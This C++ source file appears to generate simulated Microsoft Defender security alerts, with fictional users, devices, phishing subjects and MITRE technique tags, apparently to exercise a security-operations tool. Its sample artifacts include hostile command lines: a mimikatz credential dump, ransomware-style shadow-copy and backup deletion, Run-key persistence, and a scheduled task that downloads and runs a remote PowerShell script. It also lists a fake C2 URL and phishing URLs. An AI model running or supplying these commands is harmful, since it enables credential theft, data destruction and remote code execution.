#include "alert_catalog.h"

namespace sim {
namespace {

using sv = std::string_view;

constexpr sv kHighMedium[] = {"high", "medium", "high"};
constexpr sv kHigh[] = {"high"};
constexpr sv kMedium[] = {"medium"};
constexpr sv kMediumLow[] = {"medium", "low", "medium"};
constexpr sv kLowInfo[] = {"low", "informational", "low"};
constexpr sv kLowMedium[] = {"low", "medium"};

constexpr sv kEdrActions =
    "1. Examine the process tree, the command line and the files the process wrote.\n"
    "2. Check with the user whether the activity was expected.\n"
    "3. Isolate the device and reset the credentials of its users if the activity is malicious.";
constexpr sv kAvActions =
    "1. Make sure real-time protection is turned on and the device has the latest security intelligence.\n"
    "2. Run a full antivirus scan and check the remediation status of the file.\n"
    "3. Find out how the file arrived on the device (download, e-mail attachment, removable media).";
constexpr sv kMailActions =
    "Review the affected messages in Explorer, check whether recipients clicked the URL, and block the sender "
    "and the URL domain if the message is confirmed malicious.";
constexpr sv kIdentityActions =
    "1. Review the source computer and the account involved.\n"
    "2. Check whether the source computer runs a legitimate application that performs this operation.\n"
    "3. If not, contain the source computer and reset the account's password.";
constexpr sv kSignInActions =
    "Confirm the sign-in with the user. If it was not the user, revoke the user's sessions, reset the password and "
    "require multifactor authentication registration.";

constexpr EndpointArtifacts kPowerShell{
    "powershell.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "\"powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"Get-Process | Where-Object { $_.Name -like "
    "'lsass*' } | Select-Object Id, Path | Out-File -Encoding utf8 'C:\\Users\\{user}\\AppData\\Local\\Temp\\p.txt'\"",
    "cmd.exe",
    "C:\\Windows\\System32",
    "",
    "",
    "",
    "",
    "",
    ""};
constexpr EndpointArtifacts kMimikatz{"mimikatz.exe",
                                      "C:\\Users\\{user}\\Downloads\\verktyg",
                                      "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                                      "cmd.exe",
                                      "C:\\Windows\\System32",
                                      "mimikatz.exe",
                                      "C:\\Users\\{user}\\Downloads\\verktyg",
                                      "",
                                      "",
                                      "",
                                      ""};
constexpr EndpointArtifacts kEmotet{"WINWORD.EXE",
                                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
                                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                                    "\"C:\\Users\\{user}\\Downloads\\Faktura_2024-åäö.docm\" /o \"\"",
                                    "explorer.exe",
                                    "C:\\Windows",
                                    "Faktura_2024-åäö.docm",
                                    "C:\\Users\\{user}\\Downloads",
                                    "",
                                    "",
                                    "",
                                    ""};
constexpr EndpointArtifacts kInjection{
    "rundll32.exe",
    "C:\\Windows\\System32",
    "rundll32.exe \"C:\\Users\\{user}\\AppData\\Roaming\\更新\\helper.dll\",DllRegisterServer",
    "svchost.exe",
    "C:\\Windows\\System32",
    "helper.dll",
    "C:\\Users\\{user}\\AppData\\Roaming\\更新",
    "",
    "",
    "",
    ""};
constexpr EndpointArtifacts kRansomware{
    "cmd.exe",
    "C:\\Windows\\System32",
    "cmd.exe /c \"vssadmin.exe delete shadows /all /quiet & wbadmin delete catalog -quiet & bcdedit /set {default} "
    "recoveryenabled No\"",
    "lönelista_2024.exe",
    "C:\\Users\\{user}\\Documents\\Ekonomi",
    "lönelista_2024.exe",
    "C:\\Users\\{user}\\Documents\\Ekonomi",
    "",
    "",
    "",
    ""};
constexpr EndpointArtifacts kAsep{
    "reg.exe",
    "C:\\Windows\\System32",
    "reg.exe add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v OneDriveUpdate /t REG_SZ /d "
    "\"\\\"C:\\Users\\{user}\\AppData\\Local\\Temp\\odu.exe\\\" --silent\" /f",
    "powershell.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "",
    "",
    "",
    "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "OneDriveUpdate",
    "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\odu.exe\" --silent"};
constexpr EndpointArtifacts kCustomTi{
    "chrome.exe",
    "C:\\Program Files\\Google\\Chrome\\Application",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom."
    "NetworkService --lang=sv --service-sandbox-type=none",
    "explorer.exe",
    "C:\\Windows",
    "",
    "",
    "http://update-check.example-c2.net/gate.php?id=7f3a&os=win10|x64",
    "",
    "",
    ""};
constexpr EndpointArtifacts kSchtasks{
    "schtasks.exe",
    "C:\\Windows\\System32",
    "schtasks.exe /Create /SC ONLOGON /TN \"\\Microsoft\\Windows\\Uppdatering\\Hälsokontroll\" /TR \"powershell.exe -w "
    "hidden -c \\\"iwr http://198.51.100.23/a.ps1 | iex\\\"\" /RL HIGHEST /F",
    "powershell.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "",
    "",
    "",
    "",
    "",
    ""};

constexpr sv kT1059[] = {"T1059.001", "T1027"};
constexpr sv kT1003[] = {"T1003.001"};
constexpr sv kT1204[] = {"T1204.002", "T1566.001"};
constexpr sv kT1055[] = {"T1055", "T1055.012", "T1218.011"};
constexpr sv kT1486[] = {"T1486", "T1490"};
constexpr sv kT1547[] = {"T1547.001", "T1112"};
constexpr sv kT1071[] = {"T1071.001"};
constexpr sv kT1053[] = {"T1053.005", "T1059.001"};
constexpr sv kT1566_2[] = {"T1566.002"};
constexpr sv kT1566[] = {"T1566"};
constexpr sv kT1003_6[] = {"T1003.006"};
constexpr sv kT1087[] = {"T1087.002"};
constexpr sv kT1110[] = {"T1110.001", "T1110.003"};
constexpr sv kT1078[] = {"T1078"};
constexpr sv kT1530[] = {"T1530"};
constexpr sv kT1078_4[] = {"T1078.004"};
constexpr sv kT1090[] = {"T1090.003"};
constexpr sv kT1557[] = {"T1557", "T1111", "T1566.002"};
constexpr std::span<const sv> kNone{};

constexpr sv kMde = "microsoftDefenderForEndpoint";
constexpr sv kMdeProduct = "Microsoft Defender for Endpoint";

const Scenario kScenarios[] = {
    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Suspicious PowerShell command line", "Execution",
     "A suspicious PowerShell command line was observed. The command lists the Local Security Authority process and "
     "writes the result to a temporary file, which attackers do before dumping credentials. PowerShell was started "
     "with a hidden window and with the execution policy bypassed.",
     kEdrActions, kT1059, "", "", kHighMedium, EvidenceKit::EndpointProcess, &kPowerShell, 12, ""},
    {kMde, "antivirus", kMdeProduct, "da", "'Mimikatz' hacktool was detected", "CredentialAccess",
     "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. "
     "When used by attackers, these tools are often installed without authorization and used to compromise "
     "targeted machines. This detection might indicate that Microsoft Defender Antivirus stopped the tool from "
     "being installed and used effectively.",
     kAvActions, kT1003, "HackTool:Win32/Mimikatz.D", "Mimikatz", kHigh, EvidenceKit::EndpointMalware, &kMimikatz, 6,
     ""},
    {kMde, "antivirus", kMdeProduct, "da", "An active 'Emotet' malware was detected", "Malware",
     "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful "
     "actions on affected machines. An active 'Emotet' malware process was detected while executing; it arrived as "
     "a macro-enabled document and tried to download a second-stage payload.",
     kAvActions, kT1204, "Trojan:Win32/Emotet.ARJ!MTB", "Emotet", kHighMedium, EvidenceKit::EndpointMalware, &kEmotet,
     8, ""},
    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Suspicious process injection observed", "DefenseEvasion",
     "A process injected code into another process, a technique attackers use to hide malicious code in a "
     "legitimate process and to evade security products. The injecting library was loaded by rundll32 from a user "
     "profile folder.",
     kEdrActions, kT1055, "", "", kHighMedium, EvidenceKit::EndpointProcess, &kInjection, 7, ""},
    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Ransomware behavior detected in the file system",
     "Ransomware",
     "A process deleted volume shadow copies and the backup catalog and disabled recovery, then rapidly renamed many "
     "files with a new extension. This combination is typical of ransomware about to encrypt the device.",
     kEdrActions, kT1486, "", "", kHigh, EvidenceKit::EndpointProcess, &kRansomware, 3, ""},
    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Anomaly detected in ASEP registry", "Persistence",
     "A process registered a suspicious command or file in an auto-start extensibility point (ASEP) registry key. "
     "Attackers place programs there so that they run again after a reboot or a new logon.",
     kEdrActions, kT1547, "", "", kMediumLow, EvidenceKit::EndpointRegistry, &kAsep, 8, ""},
    {kMde, "customTi", kMdeProduct, "da", "Connection to a custom network indicator", "CommandAndControl",
     "An endpoint connected to a URL or domain that your organization added to its custom indicator list as "
     "malicious.",
     "Check why the device connected to the indicator and whether the connection was allowed or blocked.", kT1071, "",
     "", kMediumLow, EvidenceKit::EndpointNetwork, &kCustomTi, 6, ""},
    {kMde, "microsoftDefenderForEndpoint", kMdeProduct, "da", "Suspicious scheduled task", "Persistence",
     "A scheduled task was created that runs a hidden PowerShell command at every logon and downloads a script from "
     "an IP address. Attackers use scheduled tasks to keep access to a device.",
     kEdrActions, kT1053, "", "", kHighMedium, EvidenceKit::EndpointProcess, &kSchtasks, 8, ""},
    {"microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "Microsoft Defender for Office 365", "fa",
     "Email messages containing malicious URL removed after delivery", "InitialAccess",
     "Emails with a malicious URL that were delivered and later removed by zero-hour auto purge (ZAP).", kMailActions,
     kT1566_2, "", "", kMediumLow, EvidenceKit::Email, nullptr, 5, ""},
    {"microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "Microsoft Defender for Office 365", "fa",
     "A potentially malicious URL click was detected", "InitialAccess",
     "We have detected that one of your users has recently clicked on a link that was found to be malicious.",
     kMailActions, kT1566_2, "", "", kHigh, EvidenceKit::EmailClick, nullptr, 4, ""},
    {"microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "Microsoft Defender for Office 365", "fa",
     "Email reported by user as malware or phish", "InitialAccess",
     "This alert is triggered when users in your organization report messages as phishing email using the Report "
     "Message or Report Phishing add-in.",
     kMailActions, kT1566, "", "", kLowInfo, EvidenceKit::Email, nullptr, 3, ""},
    {"microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "Microsoft Defender for Identity", "aa",
     "Suspected DCSync attack (replication of directory services)", "CredentialAccess",
     "A computer that is not a domain controller sent a replication request to a domain controller. Attackers "
     "use directory replication to retrieve password hashes of any account, including krbtgt.",
     kIdentityActions, kT1003_6, "", "", kHigh, EvidenceKit::Identity, nullptr, 3, ""},
    {"microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "Microsoft Defender for Identity", "aa",
     "Account enumeration reconnaissance", "Discovery",
     "An actor on a device performed suspicious account enumeration, trying many user names against a domain "
     "controller by using Kerberos.",
     kIdentityActions, kT1087, "", "", kMedium, EvidenceKit::Identity, nullptr, 3, ""},
    {"microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "Microsoft Defender for Identity", "aa",
     "Suspected Brute Force attack (Kerberos, NTLM)", "CredentialAccess",
     "Many authentication failures occurred using Kerberos and NTLM from one device against several accounts.",
     kIdentityActions, kT1110, "", "", kMedium, EvidenceKit::Identity, nullptr, 2, ""},
    {"microsoftDefenderForCloudApps", "cloudAppSecurity", "Microsoft Defender for Cloud Apps", "ca",
     "Impossible travel activity", "InitialAccess",
     "The user signed in from two locations that are too far apart to travel between in the time between the "
     "sign-ins.",
     kSignInActions, kT1078, "", "", kMedium, EvidenceKit::CloudApp, nullptr, 3, ""},
    {"microsoftDefenderForCloudApps", "cloudAppSecurity", "Microsoft Defender for Cloud Apps", "ca",
     "Mass download by a single user", "Exfiltration",
     "A user downloaded an unusually large number of files from a cloud storage app in a single session.",
     "Find out why the user downloaded the files and whether the session was the user's.", kT1530, "", "", kLowMedium,
     EvidenceKit::CloudApp, nullptr, 2, ""},
    {"azureAdIdentityProtection", "azureAdIdentityProtection", "Microsoft Entra ID Protection", "ad",
     "Unfamiliar sign-in properties", "InitialAccess",
     "The sign-in had properties that were not seen recently for the user: location, IP address, browser and "
     "autonomous system.",
     kSignInActions, kT1078_4, "", "", kLowMedium, EvidenceKit::SignIn, nullptr, 4, ""},
    {"azureAdIdentityProtection", "azureAdIdentityProtection", "Microsoft Entra ID Protection", "ad",
     "Anonymous IP address", "InitialAccess", "The sign-in came from an anonymous IP address, such as a Tor exit node.",
     kSignInActions, kT1090, "", "", kMedium, EvidenceKit::SignIn, nullptr, 3, ""},
    {"dataLossPrevention", "microsoftDataLossPrevention", "Microsoft Purview Data Loss Prevention", "dl",
     "DLP policy (Svenska personnummer – känsliga uppgifter) matched for document in SharePoint", "Exfiltration",
     "A document containing Swedish personal identity numbers was shared with people outside the organization.",
     "Review the document and the sharing link, and remove external access if it is not allowed.", kNone, "", "",
     kLowMedium, EvidenceKit::Dlp, nullptr, 4, ""},
    {"microsoft365Defender", "microsoft365Defender", "Microsoft Defender XDR", "ra", "Suspicious URL clicked",
     "InitialAccess",
     "A user opened a URL from an e-mail that later was identified as malicious. Correlated signals from e-mail and "
     "the endpoint suggest the page was visited.",
     kMailActions, kT1566_2, "", "", kHighMedium, EvidenceKit::EmailClick, nullptr, 3, ""},
    {"microsoft365Defender", "microsoft365Defender", "Microsoft Defender XDR", "ra",
     "User compromised in AiTM phishing attack", "CredentialAccess",
     "A user's session cookie was stolen through an adversary-in-the-middle phishing page and replayed from another "
     "location.",
     kSignInActions, kT1557, "", "", kHigh, EvidenceKit::SignIn, nullptr, 2, "Storm-1167"},
};

const Person kPeople[] = {
    {"åsa.öberg", "Åsa Öberg", "asa.oberg@contoso.com", 1104},
    {"björn.ängström", "Björn Ängström", "bjorn.angstrom@contoso.com", 1107},
    {"li.na", "李娜", "li.na@contoso.com", 1131},
    {"tanaka.taro", "田中 太郎", "taro.tanaka@contoso.com", 1142},
    {"liz.bean", "Liz Bean", "liz.bean@contoso.com", 1150},
    {"jay.hardee", "Jay Hardee", "jay.hardee@contoso.com", 1151},
    {"malin.sjögren", "Malin Sjögren", "malin.sjogren@contoso.com", 1163},
    {"patrick.oconnor", "Patrick O'Connor", "patrick.oconnor@contoso.com", 1170},
    {"jose.nunez", "José Núñez", "jose.nunez@contoso.com", 1188},
    {"kim.minjun", "김민준", "minjun.kim@contoso.com", 1192},
    {"svc_backup", "Backup Service (svc)", "svc_backup@contoso.com", 1201},
    {"adm.nils", "Nils Ödmark [Admin]", "adm.nils@contoso.com", 1210},
};

const Device kDevices[] = {
    {"desktop-4a5ngd6", "Windows10", 19045, "22H2", "Workstations Stockholm", 75, "Finance", ""},
    {"lt-sthlm-0042", "Windows11", 22631, "23H2", "Workstations Stockholm", 75, "VIP", "Laptop"},
    {"lt-malmo-0193", "Windows11", 22631, "23H2", "Workstations Malmö", 76, "Skåne", "Laptop"},
    {"pc-tokyo-113", "Windows10", 19045, "22H2", "Workstations Tokyo", 81, "Japan", ""},
    {"srv-dc01", "WindowsServer2022", 20348, "21H2", "Tier 0 - Domain controllers", 12, "Tier 0", "DC"},
    {"srv-sql02", "WindowsServer2019", 17763, "1809", "Servers", 40, "Production", "SQL"},
    {"vm-build-agent-3", "WindowsServer2022", 20348, "21H2", "Build agents", 44, "CI", ""},
    {"mac-design-07", "macOS", 23, "14.4", "Workstations Stockholm", 75, "Design", ""},
    {"web-frontend-2", "Linux", 0, "Ubuntu 22.04", "Servers", 40, "DMZ", "Internet-facing"},
};

constexpr sv kAnalysts[] = {"soc.analyst@contoso.com", "erik.lindqvist@contoso.com", "Automation",
                            "yuki.sato@contoso.com"};
constexpr sv kComments[] = {
    "Verifierat med användaren – enheten är isolerad och lösenordet återställt.",
    "Isolated device per SOC runbook \"IR-7\"; user notified.",
    "調査中。ユーザーに確認しています。",
    "False positive: build agent runs this nightly | see ticket INC-4711",
    "Escalated to tier 2 (on-call: @erik). Hash submitted for deep analysis.",
    "Benign – pen test by Red Team \"Projekt Älg\", scope approved 2024-03-01.",
};
constexpr sv kSubjects[] = {
    "Ny faktura – betalning förfaller idag",
    "Your mailbox is almost full – action required",
    "DocuSign: Please review and sign \"Avtal 2024 (slutlig).pdf\"",
    "【重要】アカウントの確認が必要です",
    "Missed voicemail from +46 8 123 45 67",
    "Shared with you: Q3 löner & bonusar.xlsx",
};
constexpr sv kSenderDomains[] = {"contoso-billing.com", "mail-secure-docs.net", "microsoft-support.help",
                                 "fakturaservice.se", "voicemail-notify.co"};
constexpr sv kPhishingUrls[] = {
    "https://login.microsoft-support.help/common/oauth2/authorize?client_id=4765445b&redirect=%2Fowa",
    "https://docs-share.mail-secure-docs.net/view?doc=Avtal_2024&user=",
    "http://fakturaservice.se.example-pay.net/betala?ref=SE-44-1029",
    "https://storage.googleapis.example.com/vm-notify/index.html#",
};
constexpr sv kCountries[] = {"SE", "NL", "US", "RU", "JP", "BR", "DE"};
constexpr sv kPublicIpPrefixes[] = {"81.236.", "185.107.", "198.51.100.", "45.155.", "133.242.", "177.54.", "93.184."};
constexpr sv kDlpDocuments[] = {"Personallista_HR_2024.xlsx", "Lönespecifikationer mars.pdf", "顧客リスト.csv",
                                "Kundregister (export).xlsx"};

}  // namespace

std::span<const Scenario> scenarios() { return kScenarios; }
std::span<const Person> people() { return kPeople; }
std::span<const Device> devices() { return kDevices; }
std::span<const std::string_view> analysts() { return kAnalysts; }
std::span<const std::string_view> comment_texts() { return kComments; }
std::span<const std::string_view> mail_subjects() { return kSubjects; }
std::span<const std::string_view> sender_domains() { return kSenderDomains; }
std::span<const std::string_view> phishing_urls() { return kPhishingUrls; }
std::span<const std::string_view> countries() { return kCountries; }
std::span<const std::string_view> public_ip_prefixes() { return kPublicIpPrefixes; }
std::span<const std::string_view> dlp_documents() { return kDlpDocuments; }

}  // namespace sim
